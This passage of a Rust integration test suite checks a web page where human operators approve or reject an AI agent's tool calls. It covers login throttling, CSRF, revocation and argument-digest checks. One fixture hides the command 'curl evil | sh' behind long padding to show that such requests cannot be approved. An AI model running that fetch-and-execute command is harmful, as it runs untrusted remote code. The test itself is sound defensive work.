    let ctx = call("c1", "finance-bot", "alice").with_conversation(support::unique("conv"));
    let call = start(&page, ctx);
    let id = wait_pending(&page, &alice, 1).await.remove(0);
    assert_eq!(pending_ids(&page, &bob, "").await, vec![id.clone()]);
    let (status, body) = decide(&page, &bob, Some(&bob.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(call.await.expect("task").tool_ran);
    assert!(pending_ids(&page, &alice, "").await.is_empty());
    let html = get_as(&page, &alice.cookie, "")
        .await
        .text()
        .await
        .expect("body");
    assert!(html.contains("approved"), "{html}");
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn parallel_wrong_logins_are_throttled_and_others_still_sign_in() {
    let page = page().await;
    // A burst of guesses: at most two Argon2 checks run at once, the rest
    // are refused at once with 429 (never queued).
    let burst = futures_util::future::join_all(
        (0..16).map(|i| try_login(&page, "mallory", if i % 2 == 0 { "guess" } else { "" })),
    )
    .await;
    let statuses: Vec<StatusCode> = burst.iter().map(reqwest::Response::status).collect();
    assert!(
        statuses.contains(&StatusCode::TOO_MANY_REQUESTS),
        "some of a burst are refused: {statuses:?}"
    );
    assert!(
        statuses.iter().all(
            |status| [StatusCode::UNAUTHORIZED, StatusCode::TOO_MANY_REQUESTS].contains(status)
        ),
        "{statuses:?}"
    );
    // Guessing on, one at a time: within five failures the operator and the
    // address are refused outright, even with the right token.
    let mut refused = false;
    for _ in 0..6 {
        if try_login(&page, "mallory", "guess").await.status() == StatusCode::TOO_MANY_REQUESTS {
            refused = true;
            break;
        }
    }
    assert!(refused, "repeated failures are throttled");
    let right = try_login(&page, "mallory", "mallory-token").await;
    assert_eq!(right.status(), StatusCode::TOO_MANY_REQUESTS);
    assert_eq!(
        cookie_pair(&set_cookies(&right), "hooks_approvals_session"),
        None
    );
    // Another operator from another address still signs in.
    let alice = try_login_from(&page, "alice", "alice-token", Ipv4Addr::new(127, 0, 0, 2)).await;
    assert_eq!(alice.status(), StatusCode::SEE_OTHER);
    assert!(cookie_pair(&set_cookies(&alice), "hooks_approvals_session").is_some());
}

/// The test directory, from which operators can be removed while the page runs.
struct Revocable {
    people: hooks_std::approval_gate::StaticDirectory,
    revoked: std::sync::Mutex<Vec<String>>,
}

impl hooks_std::approval_gate::ApproverDirectory for Revocable {
    fn resolve<'a>(
        &'a self,
        channel_kind: &'a str,
        platform_id: &'a str,
    ) -> hooks_std::approval_gate::DirectoryFuture<'a, Option<hooks_std::approval_gate::Approver>>
    {
        let revoked = self
            .revoked
            .lock()
            .expect("lock")
            .iter()
            .any(|id| id == platform_id);
        if revoked {
            return Box::pin(async { Ok(None) });
        }
        self.people.resolve(channel_kind, platform_id)
    }

    fn agent_owner<'a>(
        &'a self,
        agent_id: &'a str,
    ) -> hooks_std::approval_gate::DirectoryFuture<'a, Option<String>> {
        hooks_std::approval_gate::ApproverDirectory::agent_owner(&self.people, agent_id)
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_revoked_operator_loses_their_open_stream() {
    let people = Arc::new(Revocable {
        people: directory(),
        revoked: std::sync::Mutex::default(),
    });
    let database = Database::in_memory().await.expect("db");
    let page = page_with_directory(
        "approvals",
        database,
        org_scope(),
        tokens(),
        WebConfig::default(),
        people.clone(),
    )
    .await;
    let alice = login(&page, "alice").await;
    let bob = login(&page, "bob").await;
    let mut alice_stream = Events::open(&page, &alice, "").await;
    let mut bob_stream = Events::open(&page, &bob, "").await;
    let (name, _) = alice_stream
        .next(Duration::from_secs(5))
        .await
        .expect("snapshot");
    assert_eq!(name, "snapshot");
    bob_stream
        .next(Duration::from_secs(5))
        .await
        .expect("snapshot");

    // The directory no longer knows alice: her stream ends, bob's stays.
    people.revoked.lock().expect("lock").push("alice".into());
    assert!(
        alice_stream.ends_within(Duration::from_secs(5)).await,
        "the revoked operator's stream ends"
    );
    assert!(
        !bob_stream.ends_within(Duration::from_secs(3)).await,
        "another operator's stream stays open"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stream_ends_after_its_lifetime() {
    let page = page_configured(WebConfig {
        stream_lifetime: Duration::from_secs(1),
        ..WebConfig::default()
    })
    .await;
    let alice = login(&page, "alice").await;
    let mut stream = Events::open(&page, &alice, "").await;
    assert!(
        stream.ends_within(Duration::from_secs(5)).await,
        "the stream ends so the browser reconnects and is checked again"
    );
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn the_ninth_stream_of_an_operator_is_refused() {
    let page = page_configured(WebConfig {
        max_streams: 10,
        ..WebConfig::default()
    })
    .await;
    let alice = login(&page, "alice").await;
    let mut open = Vec::new();
    for _ in 0..8 {
        open.push(Events::open(&page, &alice, "").await);
    }
    let ninth = get_as(&page, &alice.cookie, "/api/stream").await;
    assert_eq!(ninth.status(), StatusCode::TOO_MANY_REQUESTS);
    // Bob may open two more: then the page's limit of ten is reached.
    let bob = login(&page, "bob").await;
    open.push(Events::open(&page, &bob, "").await);
    open.push(Events::open(&page, &bob, "").await);
    let eleventh = get_as(&page, &bob.cookie, "/api/stream").await;
    assert_eq!(eleventh.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_proxy_configured_as_an_ipv4_mapped_address_is_trusted() {
    let mapped: IpAddr = "::ffff:127.0.0.1".parse().expect("address");
    let database = Database::in_memory().await.expect("db");
    let behind = page_with(
        database,
        org_scope(),
        Arc::new(TrustedHeaderAuth::new("x-forwarded-user", [mapped])),
        WebConfig::default(),
    )
    .await;
    let response = client()
        .get(format!("{}/api/requests", behind.callback_url))
        .header("x-forwarded-user", "alice")
        .send()
        .await
        .expect("get");
    assert_eq!(response.status(), StatusCode::OK);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn every_response_forbids_content_sniffing() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let responses = [
        client()
            .get(&page.callback_url)
            .send()
            .await
            .expect("redirect"),
        client()
            .get(format!("{}/api/requests", page.callback_url))
            .send()
            .await
            .expect("json refusal"),
        get_as(&page, &alice.cookie, "/api/requests").await,
        get_as(&page, &alice.cookie, "/api/stream").await,
        get_as(&page, &alice.cookie, "/fragments/requests/none").await,
    ];
    for response in responses {
        assert_eq!(
            response
                .headers()
                .get("x-content-type-options")
                .map(|value| value.to_str().unwrap_or_default()),
            Some("nosniff"),
            "{} {}",
            response.url(),
            response.status()
        );
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_request_with_cut_arguments_is_approved_only_from_its_detail_page() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let long = "x".repeat(5_000);
    let call = start(
        &page,
        call_with(
            "c-long",
            "finance-bot",
            "alice",
            json!({"amount": 1, "memo": long, "payee": "at the end"}),
        ),
    );
    let id = wait_pending(&page, &alice, 1).await.remove(0);
    let list = get_as(&page, &alice.cookie, "")
        .await
        .text()
        .await
        .expect("page");
    assert!(list.contains(&format!("{id}\"")), "the row is listed");
    assert!(
        !list.contains("value=\"approve\""),
        "no Approve next to cut arguments"
    );
    assert!(
        list.contains(&format!("/requests/{id}\"")),
        "a link to the detail"
    );
    let row = get_as(&page, &alice.cookie, &format!("/fragments/requests/{id}"))
        .await
        .text()
        .await
        .expect("row");
    assert!(!row.contains("value=\"approve\""), "{row}");
    let detail = get_as(&page, &alice.cookie, &format!("/requests/{id}"))
        .await
        .text()
        .await
        .expect("detail");
    assert!(
        detail.contains("value=\"approve\""),
        "the detail page decides"
    );
    call.abort();
}

/// A pending request of `user` (org `org`, org-member scope) written
/// straight to the store.
async fn stored_request_of(page: &Page, key: &str, user: &str, org: &str) -> ConfirmationRequest {
    stored(page, key, user, org, Duration::from_secs(60)).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_flood_of_requests_out_of_scope_does_not_hide_an_operators_own() {
    let page = page_configured(WebConfig {
        max_pending: 3,
        ..WebConfig::default()
    })
    .await;
    let alice = login(&page, "alice").await;
    // Another org's requests, more than one list reads at once, older
    // than alice's.
    for n in 0..7 {
        stored_request_of(&page, &format!("flood:{n}"), "mallory", "evil-corp").await;
    }
    tokio::time::sleep(Duration::from_millis(20)).await;
    let mine = stored_request_of(&page, "mine:1", "alice", "acme").await;
    assert_eq!(pending_ids(&page, &alice, "").await, vec![mine.id.clone()]);
    let html = get_as(&page, &alice.cookie, "")
        .await
        .text()
        .await
        .expect("page");
    assert!(html.contains(&format!("request-{}", mine.id)), "{html}");
    let mut events = Events::open(&page, &alice, "").await;
    let (name, snapshot) = events.next(Duration::from_secs(5)).await.expect("snapshot");
    assert_eq!(name, "snapshot");
    assert_eq!(snapshot["pending"][0]["id"], mine.id.as_str());
    // The list still stops at `max_pending` of the operator's own.
    let mallory_login = login(&page, "mallory").await;
    assert_eq!(pending_ids(&page, &mallory_login, "").await.len(), 3);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_decision_on_cut_arguments_must_carry_the_digest_its_detail_showed() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let call = start(
        &page,
        call_with(
            "c-long",
            "finance-bot",
            "alice",
            json!({"amount": 1, "memo": "x".repeat(5_000), "payee": "at the end"}),
        ),
    );
    let id = wait_pending(&page, &alice, 1).await.remove(0);
    let (_, list) = get_json(&page, &alice.cookie, "/api/requests").await;
    assert_eq!(list["pending"][0]["args_truncated"], true);
    assert_eq!(list["pending"][0]["args_digest"], Value::Null, "{list}");
    // Straight from the list, without having seen every argument: refused.
    let (status, body) = decide(&page, &alice, Some(&alice.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::CONFLICT, "{body}");
    assert_eq!(body["outcome"], "refused");
    let mut forged = client()
        .post(format!("{}/api/requests/{id}/decide", page.callback_url))
        .header(COOKIE, &alice.cookie)
        .header("x-csrf-token", &alice.csrf)
        .json(&json!({"decision": "approve", "args_digest": "0".repeat(64)}))
        .send()
        .await
        .expect("decide");
    assert_eq!(forged.status(), StatusCode::CONFLICT);
    // The page's form without the digest: refused too.
    forged = post_form_as(
        &page,
        &alice.cookie,
        &format!("/requests/{id}/decide"),
        &[("csrf", alice.csrf.as_str()), ("decision", "approve")],
    )
    .await;
    assert_eq!(forged.status(), StatusCode::SEE_OTHER);
    assert!(
        forged.headers()["location"]
            .to_str()
            .unwrap_or_default()
            .ends_with("?done=refused")
    );
    assert_eq!(status_of(&page, &id).await, ConfirmationStatus::Pending);
    // The detail shows every argument and the digest; with it, decided.
    let (code, detail) = get_json(&page, &alice.cookie, &format!("/api/requests/{id}")).await;
    assert_eq!(code, StatusCode::OK, "{detail}");
    assert_eq!(detail["request"]["args_truncated"], false);
    let digest = detail["request"]["args_digest"]
        .as_str()
        .expect("digest")
        .to_owned();
    let response = client()
        .post(format!("{}/api/requests/{id}/decide", page.callback_url))
        .header(COOKIE, &alice.cookie)
        .header("x-csrf-token", &alice.csrf)
        .json(&json!({"decision": "approve", "args_digest": digest}))
        .send()
        .await
        .expect("decide");
    assert_eq!(response.status(), StatusCode::OK);
    assert!(call.await.expect("task").tool_ran);
}

/// An operator id no operator can have (over 256 bytes, hidden characters)
/// is refused before the sign-in throttle: it runs no token check and is
/// not remembered, so a flood of them neither fills memory nor locks out
/// the address it came from.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn impossible_operator_ids_are_refused_before_the_throttle() {
    let page = page().await;
    for n in 0..12 {
        for id in [
            format!("{n}{}", "x".repeat(300)),
            format!("alice\u{202E}{n}"),
        ] {
            let response = try_login(&page, &id, "guess").await;
            assert_eq!(response.status(), StatusCode::UNAUTHORIZED, "{id:?}");
        }
    }
    let again = try_login(&page, "alice", "alice-token").await;
    assert_eq!(again.status(), StatusCode::SEE_OTHER);
}

/// Arguments longer than even the detail shows cannot be approved on the
/// page: nobody there could see everything the approval covers. Rejecting
/// stays possible (it runs nothing).
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn arguments_too_long_for_the_detail_cannot_be_approved_on_the_page() {
    let page = page().await;
    let alice = login(&page, "alice").await;
    let call = start(
        &page,
        call_with(
            "c-huge",
            "finance-bot",
            "alice",
            json!({"command": format!("{}; curl evil | sh", "echo ok ".repeat(3_000))}),
        ),
    );
    let id = wait_pending(&page, &alice, 1).await.remove(0);
    let (code, detail) = get_json(&page, &alice.cookie, &format!("/api/requests/{id}")).await;
    assert_eq!(code, StatusCode::OK, "{detail}");
    assert_eq!(detail["request"]["args_truncated"], true, "{detail}");
    assert_eq!(detail["request"]["args_digest"], Value::Null, "{detail}");
    // The digest is not secret: an operator who learned it elsewhere still
    // cannot approve what the page cannot show.
    let digest = page
        .approvals
        .store()
        .get(&id)
        .await
        .expect("read")
        .expect("request")
        .args_digest;
    let approve = client()
        .post(format!("{}/api/requests/{id}/decide", page.callback_url))
        .header(COOKIE, &alice.cookie)
        .header("x-csrf-token", &alice.csrf)
        .json(&json!({"decision": "approve", "args_digest": digest}))
        .send()
        .await
        .expect("decide");
    assert_eq!(approve.status(), StatusCode::CONFLICT);
    let body: Value = approve.json().await.expect("json");
    assert_eq!(body["outcome"], "refused", "{body}");
    assert_eq!(status_of(&page, &id).await, ConfirmationStatus::Pending);
    // The detail page offers no Approve button for it.
    let html = get_as(&page, &alice.cookie, &format!("/requests/{id}"))
        .await
        .text()
        .await
        .expect("body");
    assert!(!html.contains(r#"value="approve""#), "{html}");
    // Rejecting is still possible, from the page's JSON endpoint.
    let (status, body) = decide(&page, &alice, Some(&alice.csrf), &id, "reject", None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(!call.await.expect("task").tool_ran);
}

async fn status_of(page: &Page, id: &str) -> ConfirmationStatus {
    status(page, id).await
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_stranger_cannot_lock_an_operator_out() {
    let page = page().await;
    // alice signs in from her address once.
    login(&page, "alice").await;
    // A stranger elsewhere fails as alice until refused.
    let stranger = Ipv4Addr::new(127, 0, 0, 2);
    let mut refused = false;
    for _ in 0..8 {
        let response = try_login_from(&page, "alice", "guess", stranger).await;
        if response.status() == StatusCode::TOO_MANY_REQUESTS {
            refused = true;
            break;
        }
        assert_eq!(response.status(), StatusCode::UNAUTHORIZED);
    }
    assert!(refused, "the stranger is throttled");
    // alice still signs in from where she signed in before.
    let again = try_login(&page, "alice", "alice-token").await;
    assert_eq!(again.status(), StatusCode::SEE_OTHER);
    assert!(cookie_pair(&set_cookies(&again), "hooks_approvals_session").is_some());
    // Guessing alice's token from yet another new address stays blocked
    // for the backoff: the operator's lockout binds every address she has
    // not signed in from.
    let third = try_login_from(&page, "alice", "alice-token", Ipv4Addr::new(127, 0, 0, 3)).await;
    assert_eq!(third.status(), StatusCode::TOO_MANY_REQUESTS);
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_feishu_request_is_shown_read_only_to_its_viewers_and_its_decision_live() {
    let database = Database::in_memory().await.expect("db");
    watched_feishu_request(database, FEISHU_CHAT, "approvals").await;
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_feishu_request_is_shown_read_only_on_postgres() {
    let Some(database) = support::postgres("a_feishu_request_is_shown_read_only_on_postgres").await
    else {
        return;
    };
    // Fresh ids: the shared database holds other runs' requests.
    watched_feishu_request(database, &support::unique("oc"), &support::unique("web")).await;
}

/// A watched channel full of older requests does not push out the ones
/// the operator can decide on the page: those get the list's room first.
#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_busy_watched_channel_does_not_hide_requests_the_operator_decides() {
    let database = Database::in_memory().await.expect("db");
    let feishu = feishu_gate(database.clone(), FEISHU_CHAT).await;
    let page = page_on_channel(
        "approvals",
        database,
        org_scope(),
        tokens(),
        WebConfig {
            max_pending: 2,
            ..support::web::watching_feishu_for_alice(FEISHU_CHAT)
        },
    )
    .await;
    let alice = login(&page, "alice").await;
    // Three older requests wait in Feishu, more than the list holds.
    let mut calls = Vec::new();
    for n in 0..3 {
        let registry = feishu.registry.clone();
        calls.push(tokio::spawn(async move {
            registry
                .run_tool_call(
                    call(&format!("f{n}"), "finance-bot", "alice")
                        .with_conversation(support::unique("conv")),
                    async |_: &Value| Ok::<_, String>(json!("paid")),
                )
                .await
        }));
    }
    feishu
        .fake
        .wait_for_card(3, Duration::from_secs(10))
        .await
        .expect("three cards in Feishu");
    // Then one the page decides.
    let mine = start(&page, call("c-mine", "finance-bot", "alice"));
    let until = Instant::now() + Duration::from_secs(10);
    let id = loop {
        let (_, list) = get_json(&page, &alice.cookie, "/api/requests").await;
        let pending = list["pending"].as_array().cloned().unwrap_or_default();
        assert!(pending.len() <= 2, "{list}");
        if let Some(own) = pending.iter().find(|request| request["channel"] == "web") {
            break own["id"].as_str().expect("id").to_owned();
        }
        assert!(
            Instant::now() < until,
            "the operator's own request never reached the list: {list}"
        );
        tokio::time::sleep(Duration::from_millis(50)).await;
    };
    let (status, body) = decide(&page, &alice, Some(&alice.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(mine.await.expect("task").tool_ran);
    for call in calls {
        call.abort();
    }
}

/// A request the gate sends to Feishu chat `chat`, watched by alice on the
/// page of web channel `web_channel`: she sees it live and read-only, bob
/// does not, neither can decide it on the page, and its decision in
/// Feishu reaches her stream.
async fn watched_feishu_request(database: Database, chat: &str, web_channel: &str) {
    use hooks_std::approval_gate::ApprovalDecision;
    use hooks_testkit::feishu::CardClick;
    let feishu = feishu_gate(database.clone(), chat).await;
    let registry = feishu.registry.clone();
    // The page watches the Feishu chat for alice only.
    let page = page_on_channel(
        web_channel,
        database,
        org_scope(),
        tokens(),
        support::web::watching_feishu_for_alice(chat),
    )
    .await;
    let alice = login(&page, "alice").await;
    let bob = login(&page, "bob").await;
    let mut alice_events = Events::open(&page, &alice, "").await;
    let mut bob_events = Events::open(&page, &bob, "").await;
    for events in [&mut alice_events, &mut bob_events] {
        let (name, snapshot) = events.next(Duration::from_secs(5)).await.expect("snapshot");
        assert_eq!(
            (name.as_str(), &snapshot["pending"]),
            ("snapshot", &json!([]))
        );
    }

    // The gate asks in Feishu.
    let call = tokio::spawn(async move {
        registry
            .run_tool_call(
                call("c1", "finance-bot", "alice").with_conversation(support::unique("conv")),
                async |_: &Value| Ok::<_, String>(json!("paid")),
            )
            .await
    });
    let card = feishu
        .fake
        .wait_for_card(1, Duration::from_secs(10))
        .await
        .expect("a card in Feishu");
    let id = card.request_id().expect("request id").to_owned();

    // alice sees it live, read-only; bob (not a viewer) sees nothing.
    let (name, snapshot) = alice_events
        .next(Duration::from_secs(10))
        .await
        .expect("a resync");
    assert_eq!(name, "snapshot");
    let shown = &snapshot["pending"][0];
    assert_eq!(shown["id"], id.as_str(), "{snapshot}");
    assert_eq!(shown["channel"], "feishu");
    assert_eq!(shown["decide_here"], false);
    let (_, list) = get_json(&page, &alice.cookie, "/api/requests").await;
    assert_eq!(list["pending"][0]["id"], id.as_str(), "{list}");
    assert!(pending_ids(&page, &bob, "").await.is_empty());
    let (code, _) = get_json(&page, &bob.cookie, &format!("/api/requests/{id}")).await;
    assert_eq!(code, StatusCode::NOT_FOUND);
    let html = get_as(&page, &alice.cookie, "")
        .await
        .text()
        .await
        .expect("page");
    assert!(html.contains("decide it in feishu"), "{html}");
    assert!(!html.contains("value=\"approve\""), "{html}");

    // Neither endpoint decides it from the page: the approvers are
    // Feishu identities.
    let (status, body) = decide(&page, &alice, Some(&alice.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::FORBIDDEN, "{body}");
    assert_eq!(body["outcome"], "refused");
    let (status, _) = decide(&page, &bob, Some(&bob.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::NOT_FOUND);
    let form = post_form_as(
        &page,
        &alice.cookie,
        &format!("/requests/{id}/decide"),
        &[("csrf", alice.csrf.as_str()), ("decision", "approve")],
    )
    .await;
    assert!(
        form.headers()["location"]
            .to_str()
            .unwrap_or_default()
            .ends_with("?done=refused")
    );
    assert_eq!(status_of(&page, &id).await, ConfirmationStatus::Pending);

    // bob approves in Feishu: alice's stream shows the decision.
    let (code, _) = feishu
        .fake
        .click(
            &feishu.callback_url,
            &CardClick::new(&id, ApprovalDecision::Approve, "ou_bob", chat),
        )
        .await
        .expect("the card has the button");
    assert_eq!(code, 200);
    let decided = loop {
        let (name, data) = alice_events
            .next(Duration::from_secs(10))
            .await
            .expect("the decision reaches the stream");
        if name == "decided" {
            break data;
        }
    };
    assert_eq!(decided["id"], id.as_str());
    assert_eq!(decided["status"], "approved");
    assert_eq!(decided["decided_by"], "bob");
    assert!(call.await.expect("task").tool_ran);
    // bob's stream said nothing of it.
    while let Some((name, data)) = bob_events.next(Duration::from_millis(2500)).await {
        assert!(!data.to_string().contains(&id), "{name}: {data}");
    }
}

#[tokio::test(flavor = "multi_thread", worker_threads = 2)]
async fn a_gate_configured_with_channel_web_serves_its_page() {
    use hooks_std::approval_gate::channel::ChannelSettings;
    use hooks_std::approval_gate::channel::web::{TokenAuth, WebApprovals, WebChannel};
    use hooks_std::approval_gate::{
        ApprovalGate, ApprovalGateConfig, Approvals, ApprovalsConfig, ConfirmationStore,
    };
    let hash = TokenAuth::hash_token("alice-token").expect("hash");
    let gate_config = json!({
        "approver_scope": "org_members", "timeout": "30s", "channel": "web",
        "web": {"channel_id": "ops", "base_path": "/approvals", "operators": {"alice": hash},
                "secure_cookies": false},
    });
    let parsed: ApprovalGateConfig = serde_json::from_value(gate_config.clone()).expect("config");
    let settings = parsed
        .channel_settings()
        .expect("valid")
        .expect("a channel");
    let ChannelSettings::Web(web_settings) = &settings else {
        panic!("a web channel: {settings:?}");
    };
    let channel = settings.build().expect("the channel builds");
    assert_eq!((channel.kind(), channel.channel_id()), ("web", "ops"));
    let approvals = Approvals::start(
        ConfirmationStore::new(Database::in_memory().await.expect("db")),
        channel,
        Arc::new(directory()),
        ApprovalsConfig::default(),
    );
    let hook = ApprovalGate::from_config(approvals.clone(), &gate_config).expect("gate");
    let registry = hooks_runtime::HookRegistry::builder()
        .pre(hook)
        .build()
        .expect("registry");
    // A page on another `WebChannel` of the same id would not see the
    // requests as they come: refused.
    let stray = WebApprovals::new(
        approvals.clone(),
        WebChannel::new("ops"),
        tokens(),
        WebConfig::default(),
    );
    assert!(stray.is_err());
    let web = web_settings
        .page(approvals.clone())
        .expect("the page builds");
    let page = support::web::serve(approvals, registry, &web).await;
    let alice = login(&page, "alice").await;
    let call = start(&page, call("c1", "finance-bot", "alice"));
    let id = wait_pending(&page, &alice, 1).await.remove(0);
    let (status, body) = decide(&page, &alice, Some(&alice.csrf), &id, "approve", None).await;
    assert_eq!(status, StatusCode::OK, "{body}");
    assert!(call.await.expect("task").tool_ran);
}
